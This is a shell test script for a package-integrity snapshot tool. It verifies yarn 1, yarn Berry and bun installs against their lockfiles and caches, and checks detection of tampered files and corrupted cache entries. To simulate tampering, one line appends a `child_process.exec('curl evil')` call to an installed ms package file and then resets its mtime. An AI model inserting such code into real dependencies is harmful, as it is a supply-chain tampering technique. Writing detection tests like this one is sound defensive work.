#!/bin/sh
# Installs made by the real yarn 1, yarn 4 (nodeLinker: node-modules) and
# bun (bun.lock, and bun.lockb), tests/tools/yarn-bun-fixtures.sh: one
# package record per installed package, bound to its lockfile entry
# (yarn keys by name@range, bun by path), no "no committed lockfile"
# finding; yarn 1 checked against its own cache (.yarn-tarball.tgz), yarn
# 4 against its zip archives (checksum, then every member), and bun
# against an npm cache by integrity; bun.lockb recorded, not
# verified, saying why.  Then a file of a yarn 1 install changed after
# install (mtime put back) is named by package and path.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need jq jq
need zstd zstd
fx="$CAIRN_SRC/tests/fixtures/packages"
pkgs() {
	zstd -dcq "$1" | jq -c 'select(.type == "package") | [.path, .manager, .version,
		.locked_version, .lockfile, .integrity != null, [.required_by[].from], .flags,
		.files.status, .files.matching, .files.source]'
}
proj() {
	zstd -dcq "$1" | jq -c 'select(.type == "npm_project") | [.manager, .lockfile,
		.lockfile_version, .lock_entries, .installed, .registry_host]'
}
findings() {
	cairn-report --snapshot "$1" --format json --no-timestamp | jq -c '.findings[] | [.rule, .severity, .title]'
}
for v in yarn1 berry bun bunb; do
	fixture_copy "$fx/$v" "$v"
	case $v in
	yarn1) opt="--yarn-cache $fx/yarn1-cache/v6" ;;
	berry) opt="--yarn-cache $fx/berry-cache" ;;
	*) opt="--npm-cache $fx/npm-cache-4/_cacache" ;;
	esac
	run cairn-snap -q $opt -o "$v.cairn" "$v"
	proj "$v.cairn"
	pkgs "$v.cairn"
	zstd -dcq "$v.cairn" | jq -c 'select(.type == "package" and .files.message != null) | .files.message' | sort -u
	echo "findings:"
	findings "$v.cairn"
done

f=yarn1/node_modules/ms/index.js
# a second past the copy's ctimes (rules.c INSTALL_WINDOW_NS), so that the
# put-back mtime is always seen (CAIRN-T01), however slow the build
sleep 2
printf '\n;require("child_process").exec("curl evil")\n' >> "$f"
touch -d '2026-01-01 00:00:00 UTC' "$f"
run cairn-snap -q --yarn-cache "$fx/yarn1-cache/v6" -o t.cairn yarn1
zstd -dcq t.cairn | jq -c 'select(.type == "package" and (.flags | length) > 0) | [.name, .flags, .files.modified]'
findings t.cairn

# a yarn 1 cache entry that does not match the lockfile integrity is not
# trusted: cache_corrupt, not verified
cp -R "$fx/yarn1-cache" badcache
chmod -R u+w badcache
t=$(find badcache -path '*npm-ms-*' -name .yarn-tarball.tgz)
cp "$(find badcache -path '*npm-debug-*' -name .yarn-tarball.tgz)" "$t"
run cairn-snap -q --yarn-cache badcache/v6 -o c.cairn yarn1
zstd -dcq c.cairn | jq -c 'select(.type == "package" and .name == "ms") | [.files.status, .files.message]'

# a Berry archive that does not match the lockfile checksum is not used
cp -R "$fx/berry-cache" badzip
chmod -R u+w badzip
cp badzip/debug-npm-*.zip "$(ls badzip/ms-npm-*.zip)"
run cairn-snap -q --yarn-cache badzip -o z.cairn berry
zstd -dcq z.cairn | jq -c 'select(.type == "package" and .name == "ms") | [.files.status, .files.message]'
